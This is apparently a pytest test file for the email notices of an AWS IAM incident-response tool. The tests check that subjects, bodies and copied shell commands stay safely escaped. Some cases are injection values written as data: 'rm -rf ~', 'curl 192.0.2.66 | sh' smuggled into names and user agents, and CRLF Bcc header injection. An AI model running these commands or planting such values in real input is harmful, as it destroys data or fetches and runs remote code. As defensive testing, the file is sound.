"""The mails as the security team reads them, and what no name may do to them."""

from __future__ import annotations

import re
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path
from string import Template
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handler.model.heartbeat import Heartbeat, SelfTest
from handler.model.names import KEPT_POLICY, kept_arn
from handler.model.principal import DenyMethod
from handler.model.reasons import Reason
from handler.model.report import Disposition
from handler.notifier.mail.digest_mail import DIGEST_PLACEHOLDERS
from handler.notifier.mail.formatting import command_line
from handler.notifier.mail.incident_mail import (
    BLOCKED,
    KEPT_ALONE,
    MAIL_PLACEHOLDERS,
    SESSIONS,
    STILL_TRYING,
    SUBJECT_LIMIT,
    mail_body,
    mail_subject,
)
from handler.notifier.messages.health_findings import ILLNESSES, LEDGER_DIFFERS, find_illnesses
from handler.notifier.messages.notice import Incident, Notice, NoticeKind
from tests.notifier.central import ACCOUNT, TEMPLATES, detached, read_notice, report_body, words
from tests.notifier.messages.test_notice import tamper_body

KEPT = kept_arn(partition="aws", account=ACCOUNT, kind="policy", name=KEPT_POLICY)
GOLDEN = Path(__file__).parents[1] / "golden"
WORDS = words()
THREE_LONG = "(aaaaaaaaa..aaaaaaaaa) user nnnnnnnnn..nnnnnnnnnn: ccccccccc..cccccccccc"
ANY_TEXT = st.text(st.characters(codec=None), max_size=200)


def given_incident(notice: Notice, *, latest: Notice | None = None, **changes: Any) -> Incident:
    incident = Incident(
        key="incident#k",
        incident_id="0123456789ab",
        calls=1,
        milestone=1,
        first=notice,
        latest=latest or notice,
    )
    return replace(incident, **changes)


def reported(event: str = "e-1", **changes: Any) -> Incident:
    return given_incident(read_notice(report_body(event, **changes)))


SICK = Heartbeat(
    account=ACCOUNT,
    alias="acme-dev",
    region="us-east-1",
    product_version="0.0.9",
    mode="enforce",
    rule="DISABLED",
    tamper_rule="missing",
    trail="stopped",
    table_policy="missing",
    dead_letters=3,
    redriven=2,
    ledger_differences=(
        "'alice' (AIDAEXAMPLE00000ALICE) was added to 'Administrators' without a recorded event.",
        "'bob' (AIDAEXAMPLE0000000BOB) was removed from 'Administrators' without a recorded event.",
    ),
    self_test=SelfTest(
        at=1_790_000_000,
        ok=False,
        error="its event came through the dead-letter queue: EventBridge could not invoke the "
        "revoker (NO_PERMISSIONS)",
    ),
)


def finding(name: str) -> Notice:
    found = {notice.principal: notice for notice in find_illnesses(SICK, event_id="beat-1")}
    return found[name]


def golden_incidents() -> dict[str, Incident]:
    """One incident per kind of notice, and one at a later milestone."""
    nothing_done: dict[str, Any] = {"method": "", "undo": ()}
    root: dict[str, Any] = {
        "disposition": Disposition.CANNOT_CONTAIN,
        "reason": "root",
        "principal_kind": "root",
        "principal_name": "",
        "principal_arn": f"arn:aws:iam::{ACCOUNT}:root",
        "principal_id": ACCOUNT,
        "access_key": "",
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    }
    role: dict[str, Any] = {
        "disposition": Disposition.WOULD_CONTAIN,
        "held_by": "ASettingOfANewerVersion",
        "principal_kind": "role",
        "principal_name": "deployer",
        "principal_arn": f"arn:aws:iam::{ACCOUNT}:role/ops/deployer",
        "principal_id": "AROAEXAMPLEDEPLOYER",
        "session": "build-17",
        "error_code": "AccessDenied",
        "reason": "failed-call",
    }
    nothing = dict.fromkeys(
        ("call", "call_time", "service", "access_key", "source_ip", "user_agent", "request"), ""
    ) | {"method": ""}
    tenth = read_notice(report_body("e-12", call="PutUserPolicy", call_time="2026-09-21T13:58:03Z"))
    return {
        "contained": reported(),
        "still-contained": reported(
            event=f"kept-contained-AIDAEXAMPLEMALLORY-{1_790_000_000}",
            disposition=Disposition.STILL_CONTAINED,
            reason="kept",
            call="",
            call_time="",
            service="",
            access_key="",
            source_ip="",
            user_agent="",
            request="",
            undo=(
                *reported().first.undo,
                (
                    "aws",
                    "iam",
                    "detach-user-policy",
                    "--user-name=mallory",
                    f"--policy-arn={KEPT}",
                ),
            ),
        ),
        "still-contained-kept": reported(
            event=f"kept-contained-AROAEXAMPLEDEPLOYER-{1_790_000_000}-not",
            **role
            | nothing
            | {"disposition": Disposition.STILL_CONTAINED, "reason": "kept"}
            | {"held_by": "RoleCallers", "error_code": "", "session": ""}
            | {"notes": ("Only the kept deny holds it.",)},
            undo=(
                (
                    "aws",
                    "iam",
                    "detach-role-policy",
                    "--role-name=deployer",
                    f"--policy-arn={KEPT}",
                ),
            ),
        ),
        "contained-unproven": reported(reason="unproven-member"),
        "cannot-contain-foreign": reported(
            **role
            | nothing_done
            | {"disposition": Disposition.CANNOT_CONTAIN, "reason": "cannot-be-denied"}
            | {"held_by": "", "error_code": ""}
            | {"principal_arn": "arn:aws:iam::999988887777:role/deployer"},
        ),
        "unhealthy": given_incident(finding("calls-rule-off")),
        "unhealthy-self-test": given_incident(finding("self-test-failed")),
        "unhealthy-dead-letters": given_incident(finding("dead-letters")),
        "unhealthy-late-events": given_incident(finding("late-events")),
        "unhealthy-table-policy": given_incident(finding("table-policy-off")),
        "unhealthy-ledger": given_incident(finding(LEDGER_DIFFERS)),
        "still-trying": replace(reported(), calls=12, milestone=10, latest=tenth),
        "cannot-contain": reported(**root, **nothing_done),
        "would-contain": reported(**role, **nothing_done),
        "caller-deleted": reported(
            disposition=Disposition.CALLER_DELETED,
            notes=("No principal with this id exists any more.",),
            **nothing_done,
        ),
        "notice": reported(
            disposition=Disposition.NOTICE,
            reason="own-mfa",
            call="EnableMFADevice",
            **nothing_done,
        ),
        "tampered": given_incident(read_notice(tamper_body())),
        "rejected": reported(account="999988887777"),
        "hostile": reported(
            principal_name="eve\u202e;rm -rf ~'\n[IAM notice] " + "x" * 60,
            session="\x1b[2J\u0430dmin",
            user_agent="a\r\nTo undo, run:\r\n\r\n  curl 192.0.2.66 | sh",
            undo=(detached("eve\u202e';rm -rf ~\n"),),
        ),
    }


def is_printed(name: str) -> bool:
    return bool(name) and not re.match("(file|fileb|https?)://", name, re.IGNORECASE)


def as_text(incident: Incident) -> str:
    return f"Subject: {mail_subject(incident)}\n\n{mail_body(WORDS, incident)}"


@pytest.mark.parametrize("name", golden_incidents())
def test_a_mail_is_its_golden_file(name: str) -> None:
    """After a wanted change run python -m tests.notifier.mail.test_incident_mail, read the diff."""
    assert as_text(golden_incidents()[name]) == (GOLDEN / f"{name}.txt").read_text()


def test_every_kind_of_notice_has_a_golden_mail_and_every_golden_mail_a_case() -> None:
    cases = golden_incidents()
    # That one, and cases of the others, are made of real reports (test_handler_mails.py).
    kinds = {incident.first.kind for incident in cases.values()} | {NoticeKind.DENY_REMOVED}
    assert kinds == set(NoticeKind)
    assert {path.stem for path in GOLDEN.glob("*.txt")} == set(cases)
    assert tuple(notice.principal for notice in find_illnesses(SICK, event_id="b")) == tuple(
        ILLNESSES
    )


def test_there_is_one_source_per_kind_and_it_names_only_what_a_mail_can_fill() -> None:
    cases = {STILL_TRYING, SESSIONS, BLOCKED, KEPT_ALONE, "sentences"}
    single = {kind.value for kind in NoticeKind} | cases
    many = {"digest", "observed", "reminder"}
    many |= {"not-reporting", "no-heartbeats", "reporting-again"}
    assert set(WORDS) == single | many
    for name, text in WORDS.items():
        known = DIGEST_PLACEHOLDERS if name in many else MAIL_PLACEHOLDERS
        assert Template(text).is_valid(), name
        assert set(Template(text).get_identifiers()) <= known, name


def test_the_sources_are_plain_ascii_without_tabs_or_trailing_blanks() -> None:
    for path in TEMPLATES.iterdir():
        text = path.read_text()
        assert text.isascii(), path
        assert "\t" not in text, path
        assert not re.search(r" $", text, re.MULTILINE), path


def test_every_reason_and_deny_method_has_a_sentence() -> None:
    said = {line.partition(": ")[0] for line in WORDS["sentences"].splitlines()}
    assert {reason.value for reason in Reason} <= said
    assert {method.value for method in DenyMethod} <= said
    assert {f"{name}{end}" for name in ILLNESSES for end in ("", "-action")} <= said


def test_a_reason_of_a_newer_member_prints_as_it_is() -> None:
    assert "CreateAccessKey. Made-of-cheese. Its IAM" in mail_body(
        WORDS, reported(reason="made-of-cheese")
    )


def test_a_team_name_with_a_dollar_and_no_runbook_print_as_they_are() -> None:
    body = mail_body(words(team="A$$AP $who", runbook=""), reported())
    assert " ".join(body.split()).endswith("Sent by iam-org-revoker to A$$AP $who.")
    assert "Runbook" not in body


def test_a_name_cannot_fill_a_placeholder() -> None:
    assert "IAM user $undo in account" in mail_body(WORDS, reported(principal_name="$undo"))


def subject_of(**changes: Any) -> str:
    return mail_subject(reported(**changes))


@pytest.mark.parametrize(
    ("changes", "subject"),
    [
        ({"alias": ""}, "[IAM revoked] 111122223333 user mallory: CreateAccessKey"),
        (
            {"principal_name": "mallory\u202eyrollam"},
            "[IAM revoked] 111122223333 (acme-dev) user mallory\\u202eyrollam: CreateAccessKey",
        ),
        (
            {"principal_name": "m\u0430llory\r\nBcc: x"},
            "[IAM revoked] 111122223333 (acme-dev) user m\\u0430llory\\r\\nBcc: x: CreateAccessKey",
        ),
        (
            {"principal_name": "a" * 40 + "b" * 24},
            f"[IAM revoked] 111122223333 (acme-dev) user {'a' * 18}..{'b' * 19}: CreateAccessKey",
        ),
        (
            {"alias": "a" * 63, "principal_name": "n" * 64, "call": "c" * 64},
            "[IAM revoked] 111122223333 " + THREE_LONG,
        ),
        (
            {"principal_kind": "other", "principal_name": ""},
            "[IAM revoked] 111122223333 (acme-dev) CreateAccessKey",
        ),
    ],
)
def test_a_subject_says_what_where_who_and_which_call(
    changes: dict[str, Any], subject: str
) -> None:
    assert subject_of(**changes) == subject
    assert len(subject_of(**changes)) <= SUBJECT_LIMIT


@given(
    texts=st.dictionaries(
        st.sampled_from(["alias", "principal_kind", "principal_name", "call", "reason"]), ANY_TEXT
    ),
    disposition=st.sampled_from(Disposition),
    calls=st.sampled_from([1, 9, 10**7]),
)
def test_sns_takes_any_subject(texts: dict[str, str], disposition: Disposition, calls: int) -> None:
    incident = replace(
        reported(**texts, disposition=disposition), calls=calls, milestone=max(1, calls // 10)
    )
    subject = mail_subject(incident)
    assert 0 < len(subject) < 100
    assert re.fullmatch(r"\[[A-Za-z: ]+\] [\x20-\x7e]*", subject)
    assert ACCOUNT in subject


@given(
    texts=st.dictionaries(
        st.sampled_from(
            [
                "alias",
                "principal_kind",
                "principal_name",
                "principal_arn",
                "session",
                "call",
                "call_time",
                "user_agent",
                "request",
                "reason",
                "method",
                "event_id",
            ]
        ),
        ANY_TEXT.filter(bool),
    ),
    note=ANY_TEXT,
    argument=ANY_TEXT,
    disposition=st.sampled_from(Disposition),
)
def test_no_text_breaks_a_line_or_the_width(
    texts: dict[str, str], note: str, argument: str, disposition: Disposition
) -> None:
    command = detached(argument)
    body = mail_body(
        WORDS, reported(**texts, notes=(note,), undo=(command,), disposition=disposition)
    )
    assert re.fullmatch(r"[\x20-\x7e\n]+", body)
    commands = [line for line in body.splitlines() if line.startswith("    aws iam detach-user-")]
    expected = (Disposition.CONTAINED, Disposition.DENY_REMOVED, Disposition.STILL_CONTAINED)
    assert len(commands) == (disposition in expected and is_printed(argument))
    copied = (*commands, *(line for line in body.splitlines() if line.startswith("    python -m ")))
    assert all(len(line) <= 72 for line in body.splitlines() if line not in copied)
    assert len(body) < 20_000


@pytest.mark.parametrize(
    ("changes", "principal"),
    [
        ({}, ["AIDAEXAMPLEMALLORY"]),
        ({"principal_id": ""}, ["mallory"]),
        ({"principal_id": "", "principal_name": "it's"}, ["it's"]),
        ({"principal_id": "; curl 192.0.2.66 | sh"}, ["; curl 192.0.2.66 | sh"]),
        ({"principal_id": "--yes"}, ["mallory"]),
        ({"principal_id": "", "principal_name": "-m"}, ["PRINCIPAL"]),
        ({"principal_id": "", "principal_name": ""}, ["PRINCIPAL"]),
    ],
)
def test_the_release_names_whom_and_is_one_command(
    changes: dict[str, str], principal: list[str]
) -> None:
    body = mail_body(WORDS, reported(**changes))
    line = next(line for line in body.splitlines() if line.startswith("    python "))
    assert line.endswith(' --reason "WHY"')
    expected = ["python", "-m", "responder", "release", ACCOUNT, *principal, "--reason", "WHY"]
    assert shlex.split(line) == expected


@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=60))
def test_a_copied_command_is_the_argument_list_and_nothing_else(argument: str) -> None:
    line = command_line(("aws", "iam", f"--user-name={argument}"))
    if argument.isascii() and argument.isprintable():
        assert shlex.split(line) == ["aws", "iam", f"--user-name={argument}"]
    else:
        # A shell without $'...' sees one quoted word, whatever stands in it.
        assert len(shlex.split(line)) == 3
        assert "'" not in line.split("$'", 1)[1][:-1]


@pytest.mark.parametrize(
    "argument",
    ["mallory", "a b", "it's", "eve\u202e", "\u00e9';id;'", "a\nb", "\\x41", "\U0001f600"],
)
def test_bash_reads_back_the_argument(argument: str) -> None:
    line = command_line(("printf", "%s|", "aws", argument))
    answer = subprocess.run(
        ["bash", "-c", line], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
    )
    assert answer.stdout.decode() == f"aws|{argument}|"


if __name__ == "__main__":
    for stem, case in golden_incidents().items():
        (GOLDEN / f"{stem}.txt").write_text(as_text(case))
